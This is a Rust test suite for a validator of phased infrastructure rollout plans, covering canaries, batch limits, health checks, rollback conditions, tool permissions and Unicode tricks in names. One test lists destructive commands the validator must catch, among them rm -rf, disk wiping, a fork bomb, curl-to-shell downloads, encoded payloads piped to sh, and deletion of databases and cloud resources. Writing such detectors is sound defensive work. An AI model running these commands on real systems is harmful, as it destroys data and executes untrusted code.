//! Each built-in rule: the corrected plan of the example with one thing changed.

use lorch_backends::Config;
use lorch_plans::{Contract, Evidence, Setting, validate, validate_task};
use lorch_types::diagnostic::Severity;
use lorch_types::json::from_value;
use lorch_types::plan::{Metric, Metrics, Task};

use crate::drift::{config, document, judged, said, with};

const PHASES: &str = "/payload/phases";

/// Changes to the task (`T/...`) and the plan (`P/...`), and all that is found: the severity and code,
/// the pointer, and words of the message.
type Case<'c> = (&'c [(&'c str, &'c str)], &'c [(&'c str, &'c str, &'c str)]);

#[track_caller]
fn check_with(config: &Config, cases: &[Case<'_>]) {
    for (changes, expected) in cases {
        let (mut task, mut plan) = (document("task.json"), document("plan.json"));
        for (place, new) in *changes {
            match place.split_at(1) {
                ("T", pointer) => task = with(&task, pointer, new),
                (_, pointer) => plan = with(&plan, pointer, new),
            }
        }
        let validation = judged(&task, &plan, config);
        let all = said(&validation);
        let found: Vec<_> = validation.findings().collect();
        assert_eq!(found.len(), expected.len(), "{changes:?} gives\n{all}");
        for (found, (code, pointer, words)) in found.iter().zip(*expected) {
            let severity = if code.starts_with('W') { Severity::Warning } else { Severity::Error };
            assert_eq!(found.severity, severity, "{changes:?} gives\n{all}");
            assert_eq!(found.code.0.get(1..), code.get(1..), "{changes:?} gives\n{all}");
            let pointer = pointer.replace('#', PHASES);
            assert_eq!(found.pointer.to_string(), pointer, "{changes:?} gives\n{all}");
            assert!(found.message.contains(words), "{changes:?} gives\n{all}");
        }
        assert_eq!(validation.overall_valid(), expected.iter().all(|(it, ..)| it.starts_with('W')));
    }
}

#[track_caller]
fn check(cases: &[Case<'_>]) {
    check_with(&config(), cases);
}

#[test]
fn a_plan_that_breaks_its_schema_is_judged_no_further() {
    check(&[(
        &[("P/payload/summary", "\"short\""), ("P/payload/phases/0/assets", "[]")],
        &[("L1109", "#/0/assets", "at least 1"), ("L1106", "/payload/summary", "20 to 1000")],
    )]);
    let plan = with(&document("plan.json"), "/payload/summary", "1");
    let validation = judged(&document("task.json"), &plan, &config());
    let written = validation.document();
    assert_eq!(written.schema_valid, Some(false));
    assert_eq!((written.opa_valid, written.safety_valid), (None, None));
    assert_eq!(written.overall_valid, Some(false));
    assert_eq!(validation.score.total(), 0);
}

#[test]
fn the_plan_is_one_of_the_task() {
    check(&[
        (
            &[("P/task_id", "\"00000000-0000-0000-0000-000000000000\"")],
            &[("L1201", "/task_id", "is for the task 00000000")],
        ),
        (&[("P/type", "\"patch_plan\"")], &[("L1201", "/type", "`drift_plan`, not `patch_plan`")]),
    ]);
}

#[test]
fn every_asset_is_in_one_phase() {
    check(&[
        (
            &[("P/payload/phases/1/assets/0", "\"x\"")],
            &[
                ("L1202", "#/1/assets/0", "1 asset that `affected_assets` does not name: `x`"),
                (
                    "L1202",
                    "/payload/affected_assets/5",
                    "1 affected asset is in no phase: `asset-6`",
                ),
            ],
        ),
        (
            &[("P/payload/phases/1/assets/0", "\"asset-1\"")],
            &[
                ("L1202", "#/1/assets/0", "`Canary` has already: `asset-1`"),
                ("L1202", "/payload/affected_assets/5", "in no phase"),
            ],
        ),
        (
            &[("P/payload/phases/1/assets/0", "\"asset-7\"")],
            &[
                ("L1202", "#/1/assets/1", "it has already: `asset-7`"),
                ("L1202", "/payload/affected_assets/5", "in no phase"),
            ],
        ),
        (
            &[("P/payload/affected_assets/-", "\"asset-1\"")],
            &[("L1202", "/payload/affected_assets/47", "more than once `asset-1`")],
        ),
        (
            &[("T/task_spec/context/scope/asset_ids", "[\"asset-1\"]")],
            &[(
                "L1202",
                "/payload/affected_assets/1",
                "`asset-2`, `asset-3`, `asset-4`, `asset-5` and 42 more",
            )],
        ),
        (
            &[("T/task_spec/constraints/exclude_assets", "[\"asset-9\", \"y\"]")],
            &[
                ("L1203", "/payload/affected_assets/8", "excludes `asset-9`"),
                ("L1203", "#/1/assets/3", "excludes `asset-9`"),
            ],
        ),
        (
            &[("P/payload/phases/4/name", "\"Canary\"")],
            &[("L1204", "#/4/name", "a phase `Canary` already")],
        ),
        (&[("P/payload/phases", "null")], &[("L1204", "/payload", "nothing would be done")]),
    ]);
}

#[test]
fn batches_are_measured_in_integers() {
    let ten = "[\"asset-1\", \"asset-2\", \"asset-3\", \"asset-4\", \"asset-5\", \"asset-6\"]";
    check(&[
        // 11 of 47 are 23.4 %: more than 23, less than 24.
        (&[("T/task_spec/constraints/max_batch_percent", "24")], &[]),
        (
            &[("T/task_spec/constraints/max_batch_percent", "23")],
            &[
                ("L1206", "#/1/assets", "`Wave1` concerns 11 of 47 assets, 23.4 %, and 23 %"),
                ("L1206", "#/2/assets", "`Wave2` concerns 11 of 47"),
            ],
        ),
        (
            &[("T/task_spec/constraints/max_batch_size", "10")],
            &[
                ("L1206", "#/1/assets", "11 assets, and 10 are allowed"),
                ("L1206", "#/2/assets", "11 assets"),
            ],
        ),
        // The canary is bound by the plain size as well.
        (
            &[("T/task_spec/constraints/max_batch_size", "4")],
            &[
                ("L1205", "#/0/assets", "no canary: phase `Canary` concerns 5 assets, and 4"),
                ("L1206", "#/1/assets", "11 assets"),
                ("L1206", "#/2/assets", "11 assets"),
                ("L1206", "#/3/assets", "10 assets"),
                ("L1206", "#/4/assets", "10 assets"),
            ],
        ),
        // Six are no longer few, and 12.8 % of all.
        (
            &[
                ("P/payload/phases/0/assets", ten),
                ("P/payload/phases/1/assets/0", "null"),
                ("T/task_spec/constraints/max_batch_percent", "12"),
            ],
            &[
                ("L1205", "#/0/assets", "6 of 47 assets, 12.8 %"),
                ("L1206", "#/1/assets", "10 of 47"),
                ("L1206", "#/2/assets", "11 of 47"),
                ("L1206", "#/3/assets", "10 of 47"),
                ("L1206", "#/4/assets", "10 of 47"),
            ],
        ),
        // Without constraints 20 % are allowed.
        (
            &[("T/task_spec/constraints/max_batch_percent", "null")],
            &[
                ("L1206", "#/1/assets", "20 % are allowed"),
                ("L1206", "#/2/assets", "20 % are allowed"),
                ("L1206", "#/3/assets", "10 of 47 assets, 21.3 %"),
                ("L1206", "#/4/assets", "10 of 47"),
            ],
        ),
    ]);
}

#[test]
fn production_is_watched() {
    check(&[
        (
            &[("P/payload/phases/0/wait_time", "null")],
            &[("L1205", "#/0", "`Canary` has no `wait_time`")],
        ),
        (
            &[("P/payload/phases/0/wait_time", "\"0s\"")],
            &[("L1205", "#/0/wait_time", "watched for no time")],
        ),
        (&[("P/payload/phases/1/wait_time", "null")], &[]),
        (
            &[("P/payload/phases/2/health_checks", "null")],
            &[("L1207", "#/2", "`Wave2` has no health check")],
        ),
        (&[("P/payload/phases/2/health_checks", "[]")], &[("L1207", "#/2", "no health check")]),
        (
            &[
                ("P/payload/phases/2/rollback_if", "null"),
                ("T/task_spec/constraints/rollback_trigger", "null"),
            ],
            &[("L1208", "#/2", "no `rollback_if`, and the task no `rollback_trigger`")],
        ),
        // Elsewhere both may be left out, and the canary too where the task asks for none.
        (
            &[
                ("P/payload/phases/2/rollback_if", "null"),
                ("P/payload/phases/2/health_checks", "null"),
                ("P/payload/phases/0/wait_time", "null"),
                ("T/task_spec/constraints/rollback_trigger", "null"),
                ("T/task_spec/constraints/canary_required", "false"),
                ("T/task_spec/context/environment", "\"staging\""),
            ],
            &[
                ("L1211", "#/0/actions/0/tool", "may not be used in this environment"),
                ("L1211", "#/1/actions/0/tool", "environment"),
                ("L1211", "#/2/actions/0/tool", "environment"),
                ("L1211", "#/3/actions/0/tool", "environment"),
                ("L1211", "#/4/actions/0/tool", "environment"),
            ],
        ),
    ]);
}

#[test]
fn texts_that_cannot_be_read_are_errors() {
    check(&[
        (
            &[("P/payload/phases/1/wait_time", "\"soon\"")],
            &[("L1209", "#/1/wait_time", "begins with a whole number")],
        ),
        (
            &[("P/payload/phases/1/wait_time", "\"1d\"")],
            &[("L1209", "#/1/wait_time", "not given in days")],
        ),
        (
            &[("P/payload/phases/1/health_checks/0/timeout", "\"2h\"")],
            &[("L1209", "#/1/health_checks/0/timeout", "not given in hours")],
        ),
        (
            &[("P/payload/estimated_duration", "\"2 hours\"")],
            &[("L1209", "/payload/estimated_duration", "found")],
        ),
        (
            &[("P/payload/phases/1/rollback_if", "\"error_rate > .5%\"")],
            &[("L1210", "#/1/rollback_if", "`.5` is no number")],
        ),
        (
            &[("P/payload/phases/1/rollback_if", "\"\"")],
            &[("L1210", "#/1/rollback_if", "the condition is empty")],
        ),
        (
            &[("P/payload/phases/1/health_checks/0/threshold", "\"< 1\"")],
            &[("L1210", "#/1/health_checks/0/threshold", "has a unit")],
        ),
        (
            &[("P/payload/phases/1/health_checks/0/threshold", "null")],
            &[("L1210", "#/1/health_checks/0", "no threshold")],
        ),
        (
            &[("P/payload/phases/0/health_checks/0/threshold", "\"== true\"")],
            &[("L1210", "#/0/health_checks/0/threshold", "a flag has no threshold")],
        ),
        (
            &[("P/payload/phases/1/health_checks/0/type", "\"custom_metric\"")],
            &[("L1210", "#/1/health_checks/0", "names it as its `target`")],
        ),
        (
            &[(
                "P/payload/phases/1/health_checks/-",
                r#"{"type": "custom_metric", "target": "queue"}"#,
            )],
            &[("L1210", "#/1/health_checks/1/target", "no metric `queue`")],
        ),
        (
            &[("T/task_spec/constraints/rollback_trigger", "\"error_rate > 1\"")],
            &[("L1210", "/task_spec/constraints/rollback_trigger", "a ratio has a unit")],
        ),
    ]);
}

#[test]
fn declared_metrics_have_their_types() {
    let config = Config::parse(
        "[metrics]\nqueue = \"number\"\nready = \"flag\"\n\
         [tools.query_assets]\nop = \"compute.exec\"\nrisk = \"read_only\"\n\
         [tools.upgrade_image]\nop = \"compute.exec\"\nrisk = \"read_only\"\n",
    )
    .unwrap();
    let queue = r#"{"type": "custom_metric", "target": "queue", "threshold": "< 10"}"#;
    let ready = r#"{"type": "custom_metric", "target": "ready"}"#;
    check_with(
        &config,
        &[
            (
                &[
                    ("P/payload/phases/1/health_checks/-", queue),
                    ("P/payload/phases/1/health_checks/-", ready),
                ],
                &[],
            ),
            (
                &[
                    ("P/payload/phases/1/health_checks/-", queue),
                    ("P/payload/phases/1/rollback_if", "\"error_rate >= 0.5% or queue > 10\""),
                ],
                &[("W1214", "#/1/rollback_if", "`queue` of exactly 10 neither")],
            ),
            (
                &[(
                    "P/payload/phases/1/rollback_if",
                    "\"error_rate >= 0.5% or not ready or queue > -1\"",
                )],
                &[],
            ),
        ],
    );
}

#[test]
fn tools_are_those_that_may_be_used() {
    let tool = "P/payload/phases/1/actions/0/tool";
    check(&[
        (
            &[(tool, "\"nuke\"")],
            &[
                ("L1211", "#/1/actions/0/tool", "`tools_required` do not have `nuke`"),
                ("L1211", "#/1/actions/0/tool", "there is no tool `nuke`"),
            ],
        ),
        (
            &[(tool, "\"nuke\""), ("T/task_spec/tools_required", r#"["nuke", "upgrade_image"]"#)],
            &[("L1211", "#/1/actions/0/tool", "there is no tool `nuke`")],
        ),
        (
            &[(tool, "\"restore_image\"")],
            &[
                ("L1211", "#/1/actions/0/tool", "do not have `restore_image`"),
                ("W1211", "#/1/actions/0/tool", "nothing undoes `restore_image`"),
                ("W1205", "#/0", "does not try `restore_image`"),
            ],
        ),
    ]);
    for (change, words) in [
        (("T/execution_policy/mode", "\"plan_only\""), "the task's mode is `plan_only`"),
        (("T/execution_policy/mode", "null"), "the task's mode is `plan_only`"),
        (("T/task_spec/execution_policy", r#"{"mode": "plan_only"}"#), "mode is `plan_only`"),
        (("T/task_spec/risk_level", "\"low\""), "the task's risk is `low`"),
        (("T/task_spec/context/scope/platforms", r#"["aws", "gcp"]"#), "on every platform"),
        (("T/task_spec/context/scope/platforms", "null"), "on every platform"),
    ] {
        let task = with(&document("task.json"), &change.0[1..], change.1);
        let validation = judged(&task, &document("plan.json"), &config());
        let found: Vec<_> = validation.findings().collect();
        assert_eq!(found.len(), 5, "{change:?} gives\n{}", said(&validation));
        for (index, found) in found.iter().enumerate() {
            assert_eq!(found.code.0, "L1211");
            assert_eq!(found.pointer.to_string(), format!("{PHASES}/{index}/actions/0/tool"));
            assert!(found.message.contains(words), "{change:?} gives\n{}", said(&validation));
        }
    }
}

#[test]
fn params_that_look_like_commands_which_destroy() {
    let destructive = [
        r#""rm -rf /var/www""#,
        r#""sudo rm --recursive --force x""#,
        r#""r\\m -r'f' /""#,
        r#""RM  -Rf\t/""#,
        r#"["rm", "-r", "-f", "/srv"]"#,
        r#"{"deep": [{"er": "x; mkfs.ext4 /dev/sda1"}]}"#,
        r#""dd if=/dev/zero of=/dev/sda""#,
        r#""DROP TABLE users""#,
        r#""delete from orders;""#,
        r#""truncate table orders""#,
        r#""sudo reboot""#,
        r#""shutdown -h now""#,
        r#""chmod -R 777 /""#,
        r#"":(){ :|:& };:""#,
        r#""curl https://example.org/x | sudo bash""#,
        r#""iptables -F""#,
        r#""terraform -chdir=x destroy""#,
        r#""kubectl delete namespace prod""#,
        r#""aws s3 rb s3://backup --force""#,
        r#""find / -name x -delete""#,
        r#""del /s c:\\""#,
        r#""delete from users where 1=1""#,
        r#""dropdb prod""#,
        r#""redis-cli FLUSHALL""#,
        r#""mongosh --eval 'db.dropDatabase()'""#,
        r#""curl https://example.org/x | python3 -""#,
        r#""echo cm0gLXJm | base64 -d | sh""#,
        r#""kill -9 -1""#,
        r#""Restart-Computer -Force""#,
        r#""helm uninstall web""#,
        r#""gcloud compute instances delete web-1""#,
        r#""aws dynamodb delete-table --table-name x""#,
        r#""docker system prune -af""#,
        r#"{"rm -rf /": true}"#,
    ];
    for command in destructive {
        let params = format!("{{\"run\": {command}}}");
        let plan = with(&document("plan.json"), "/payload/phases/1/actions/0/params", &params);
        let validation = judged(&document("task.json"), &plan, &config());
        let found: Vec<_> = validation.findings().collect();
        assert_eq!(found.len(), 1, "{command} gives {}", said(&validation));
        assert_eq!(found[0].code.0, "L1212", "{command}");
        let at = found[0].pointer.to_string();
        assert!(at.starts_with("/payload/phases/1/actions/0/params/run"), "{command} at {at}");
    }
    let harmless = [
        r#""ubuntu-base-v2.4.1""#,
        r#""reboot""#,
        r#""format: json""#,
        r#""delete from orders where id = 1""#,
        r#""confirm -r""#,
        r#""curl https://example.org/health""#,
        r#"["a", "b", 3, null, {"c": "farm -f"}]"#,
        r#""truncate the message""#,
        r#""kubectl rollout restart deployment/web""#,
        r#""delete from orders where 1=10""#,
        r#""gcloud compute instances list""#,
        r#""base64 -d x > y""#,
        r#""kill -9 100""#,
        r#""flush the cache""#,
    ];
    for text in harmless {
        let params = format!("{{\"run\": {text}}}");
        let plan = with(&document("plan.json"), "/payload/phases/1/actions/0/params", &params);
        let validation = judged(&document("task.json"), &plan, &config());
        assert_eq!(said(&validation), "", "{text}");
    }
}

#[test]
fn a_window_that_says_no_time_is_no_window() {
    const WINDOW: &str = "/task_spec/constraints/maintenance_window";
    let at = |window: &'static str| [("T/task_spec/constraints/maintenance_window", window)];
    let good = [
        r#"{"start": "22:00", "end": "02:00"}"#,
        r#"{"start": "22:00", "end": "02:00", "timezone": "Europe/Berlin"}"#,
        r#"{"start": "2026-07-01T10:00:00Z", "end": "2026-07-01T12:00:00+01:00"}"#,
    ];
    good.into_iter().for_each(|window| check(&[(&at(window), &[])]));
    let unknown = r#"{"start": "22:00", "end": "02:00", "timezone": "Europe/Nowhere"}"#;
    let zone = format!("{WINDOW}/timezone");
    check(&[(&at(unknown), &[("L1220", &zone, "no time zone `Europe/Nowhere`")])]);
    for none in [
        r#"{"start": "02:00", "end": "02:00"}"#,
        r#"{"start": "02:00", "end": "2026-07-01T12:00:00Z"}"#,
        r#"{"start": "2026-07-01T12:00:00Z", "end": "2026-07-01T10:00:00Z"}"#,
        r#"{"start": "at night", "end": "2am"}"#,
        r#"{"start": "", "end": ""}"#,
    ] {
        check(&[(&at(none), &[("L1220", WINDOW, "is none")])]);
    }
    // All that is wrong with a task is said before anybody is asked for a plan.
    let task = with(&document("task.json"), WINDOW, unknown);
    let task = with(&task, "/task_spec/constraints/rollback_trigger", "\"eror_rate > 1%\"");
    let task: Task = from_value(&task).unwrap();
    let found = validate_task(&Contract::of(&task).unwrap(), &Metrics::built_in());
    let codes: Vec<_> = found.iter().map(|it| (it.code.0, it.file.as_deref())).collect();
    assert_eq!(codes, [("L1210", Some("task")), ("L1220", Some("task"))]);
}

#[test]
fn whoever_approves_sees_all_of_a_name() {
    let first = "/payload/affected_assets/0";
    let names = |name: &'static str| {
        [("P/payload/affected_assets/0", name), ("P/payload/phases/0/assets/0", name)]
    };
    for (name, shown) in [
        (r#""asset-1\u200b""#, "`asset-1\\u{200b}`"),
        (r#""\u202easset-1""#, "`\\u{202e}asset-1`"),
        (r#""asset\u00a01""#, "`asset\\u{a0}1`"),
        (r#""asset\n1""#, "`asset\\n1`"),
        (r#""asset-1 ""#, "`asset-1 `"),
    ] {
        check(&[(&names(name), &[("L1202", first, shown)])]);
        let phase = [("P/payload/phases/0/name", name)];
        check(&[(&phase, &[("L1204", "#/0/name", shown)])]);
    }
    for name in ["\"asset 1\"", "\"Sérvér-ä\"", "\"\u{1f600}\"", "\"資産\"", r#""a\\\"b""#] {
        check(&[(&names(name), &[])]);
    }
    let alike = [
        ("P/payload/affected_assets/1", "\"Asset-1\""),
        ("P/payload/phases/0/assets/1", "\"Asset-1\""),
    ];
    let words = "capitals only: `asset-1` and `Asset-1`";
    check(&[(&alike, &[("W1202", "/payload/affected_assets/1", words)])]);
}

#[test]
fn what_is_excluded_is_so_however_it_is_written() {
    let excluded = |names: &'static str| [("T/task_spec/constraints/exclude_assets", names)];
    for names in ["[\"asset-7\"]", "[\"Asset-7\"]", "[\" asset-7\"]"] {
        let places = [
            ("L1203", "/payload/affected_assets/6", "excludes `asset-7`"),
            ("L1203", "#/1/assets/1", "excludes `asset-7`"),
        ];
        check(&[(&excluded(names), &places)]);
    }
    // Of many that stand in one place a few are named.
    let all = r#"["asset-1", "asset-2", "asset-3", "asset-4", "asset-5"]"#;
    let words = "excludes `asset-1`, `asset-2`, `asset-3`, `asset-4` and 1 more";
    let places = [("L1203", "/payload/affected_assets/0", words), ("L1203", "#/0/assets/0", words)];
    check(&[(&excluded(all), &places)]);
}

#[test]
fn a_canary_does_what_comes_later() {
    let actions = "P/payload/phases/0/actions";
    let words = "does nothing of what comes later: `upgrade_image`";
    check(&[
        (&[(actions, "[]")], &[("L1205", "#/0", words)]),
        (&[(actions, "null")], &[("L1205", "#/0", words)]),
        (&[(actions, r#"[{"tool": "query_assets"}]"#)], &[("L1205", "#/0", words)]),
    ]);
    let more = r#"[{"tool": "upgrade_image"}, {"tool": "restore_image"}]"#;
    let named = ("T/task_spec/tools_required/-", "\"restore_image\"");
    let words = "does not try `restore_image`, which comes later";
    let validation = {
        let task = with(&document("task.json"), &named.0[1..], named.1);
        judged(&task, &with(&document("plan.json"), "/payload/phases/1/actions", more), &config())
    };
    let said = said(&validation);
    assert!(
        said.contains(&format!("warning[L1205] /payload/phases/0: the canary `Canary` {words}")),
        "{said}"
    );
}

#[test]
fn tools_for_some_platforms_need_a_task_that_says_its_own() {
    const SCOPE: &str = "T/task_spec/context/scope/platforms";
    let words = "on every platform of the task";
    let refused: Vec<(&str, String, &str)> =
        (0..5).map(|phase| ("L1211", format!("#/{phase}/actions/0/tool"), words)).collect();
    let refused: Vec<_> = refused.iter().map(|(code, at, it)| (*code, at.as_str(), *it)).collect();
    for platforms in ["[]", "null", "[\"aws\", \"gcp\"]"] {
        check(&[(&[(SCOPE, platforms)], &refused)]);
    }
    check(&[(&[(SCOPE, "[\"azure\"]")], &[])]);
}

#[test]
fn somebody_may_approve() {
    const AT: &str = "/execution_policy/allowed_approver_roles";
    let of_spec = "/task_spec/execution_policy";
    let words = "nobody may approve plans of this task";
    let nobody = r#"{"allowed_approver_roles": ["Nobody"]}"#;
    check(&[
        (&[(&format!("T{AT}"), "[]")], &[("L1221", AT, words)]),
        (&[(&format!("T{of_spec}"), nobody)], &[("L1221", AT, words)]),
        (
            &[
                (&format!("T{AT}"), "null"),
                (&format!("T{of_spec}"), r#"{"allowed_approver_roles": []}"#),
            ],
            &[("L1221", "/task_spec/execution_policy/allowed_approver_roles", words)],
        ),
    ]);
}

#[test]
fn an_answer_is_waited_for() {
    let timeout = "P/payload/phases/0/health_checks/0/timeout";
    let at = "#/0/health_checks/0/timeout";
    check(&[
        (&[(timeout, "\"0s\"")], &[("L1215", at, "no answer is waited for")]),
        (&[(timeout, "\"0m\"")], &[("L1215", at, "no answer is waited for")]),
        (&[(timeout, "\"1s\"")], &[]),
    ]);
}

#[test]
fn what_nothing_measures_judges_nothing() {
    let latency = r#"[{"type": "latency_p99", "threshold": "< 2s"}]"#;
    let judge = |changes: &[(&str, &str)], unmeasured: &[Metric]| {
        let changed = |plan, (at, new): &(&str, &str)| with(&plan, at, new);
        let plan = changes.iter().fold(document("plan.json"), changed);
        let task: Task = from_value(&document("task.json")).unwrap();
        let mut metrics = Metrics::built_in();
        unmeasured.iter().for_each(|metric| metrics.leave_unmeasured(metric.clone()));
        let config = config();
        let setting = Setting {
            contract: Contract::of(&task).unwrap(),
            tools: &config.tools,
            metrics: &metrics,
            evidence: Evidence::default(),
        };
        said(&validate(&plan, &setting, Vec::new()))
    };
    let check = [("/payload/phases/0/health_checks", latency)];
    let condition =
        [("/payload/phases/0/rollback_if", "\"error_rate >= 1% or latency_p99 >= 2s\"")];
    let words = "warning[L1222] /payload/phases/0: phase `Canary` is judged by what nothing measures: \
                 `latency_p99`\n";
    for changes in [&check, &condition] {
        assert!(judge(changes, &[Metric::LATENCY_P99]).contains(words), "{changes:?}");
        assert!(!judge(changes, &[]).contains("L1222"), "{changes:?}");
    }
    assert_eq!(judge(&[], &[Metric::LATENCY_P99]), "");
}
